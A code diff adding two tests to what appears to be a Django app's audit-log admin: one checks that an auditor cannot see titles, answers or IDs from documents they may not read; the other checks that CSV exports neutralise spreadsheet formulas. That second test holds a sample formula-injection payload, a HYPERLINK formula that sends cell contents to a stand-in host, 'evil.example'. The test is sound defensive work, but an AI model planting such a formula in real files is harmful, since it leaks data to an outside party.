@@ -347,3 +347,81 @@ def test_events_older_than_the_retention_are_purged(people, settings):
     assert kept_all == 0 and purged == 1
     assert AuditEvent.objects.filter(pk=recent.pk).exists()
     assert not AuditEvent.objects.filter(pk=old.pk).exists()
+
+
+def test_an_auditor_sees_every_event_but_nothing_of_what_they_may_not_read(client, people):
+    """GIVEN searches and changes on the handbook and on the board's minutes
+    WHEN an auditor (view_auditevent) who may read the handbook but not the board's collection
+    lists, opens, searches and exports the trail THEN they see every event, the handbook's
+    titles and answers, and none of the board's: not its title, the answer quoting it, the
+    chunks, nor the board document's id."""
+    board_minutes = people["board"].documents.get()
+    api_client(people["superuser"]).post(
+        "/api/v1/ask/", {"question": "How many days did the board approve?"}, format="json"
+    )
+    api_client(people["superuser"], scope="write").patch(
+        f"/api/v1/documents/{board_minutes.pk}/", {"title": "Board minutes, final"}, format="json"
+    )
+    auditor = UserFactory(is_staff=True)
+    auditor.user_permissions.set(Permission.objects.filter(codename="view_auditevent"))
+    assign_perm("view_document", auditor, people["handbook"])
+    client.force_login(auditor)
+    url = reverse("admin:accounts_auditevent_changelist")
+
+    listed = client.get(url)
+    ask = events(A.ASK)[0]
+    change = events(A.DOCUMENT_UPDATE)[0]
+    pages = [
+        listed,
+        client.get(reverse("admin:accounts_auditevent_change", args=[ask.pk])),
+        client.get(reverse("admin:accounts_auditevent_change", args=[change.pk])),
+        client.get(url, {"q": "approved"}),
+        client.post(
+            url,
+            {"action": "export_json", "_selected_action": [ask.pk, change.pk]},
+        ),
+    ]
+
+    assert len(listed.context["cl"].result_list) == AuditEvent.objects.count()
+    assert "30 days" in ask.answer and "Board minutes" in change.target_repr
+    for page in pages:
+        body = page.content.decode()
+        assert "30 days" not in body and "Board minutes" not in body, body[:300]
+    assert list(pages[3].context["cl"].result_list) == []  # answers are not searched
+    exported = {row["id"]: row for row in json.loads(pages[4].content)}
+    assert exported[change.pk]["details"] == {} and exported[change.pk]["target_repr"] == (
+        "[withheld: not readable by you]"
+    )
+    assert board_minutes.pk not in exported[ask.pk]["returned_documents"]
+    assert exported[ask.pk]["returned_chunks"] == []
+    assert client.get(url, {"q": str(board_minutes.pk)}).context["cl"].result_list == []
+
+    client.force_login(people["superuser"])
+    people["superuser"].is_staff = True
+    people["superuser"].save()
+    whole = client.post(url, {"action": "export_json", "_selected_action": [ask.pk]})
+    assert "30 days" in whole.content.decode()
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(admin_client, people):
+    """A query like =HYPERLINK(...) is stored as typed; the export starts it with an
+    apostrophe so that opening the file runs nothing."""
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    api_client(people["member"]).post("/api/v1/search/", {"query": hostile}, format="json")
+    for start in ("+1+1", "-2+3", "@SUM(A1)"):
+        api_client(people["member"]).post("/api/v1/search/", {"query": start}, format="json")
+    chosen = events(A.SEARCH)
+
+    response = admin_client.post(
+        reverse("admin:accounts_auditevent_changelist"),
+        {"action": "export_csv", "_selected_action": [e.pk for e in chosen]},
+    )
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert {row["query"] for row in rows} == {
+        "'" + hostile,
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1)",
+    }
+    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
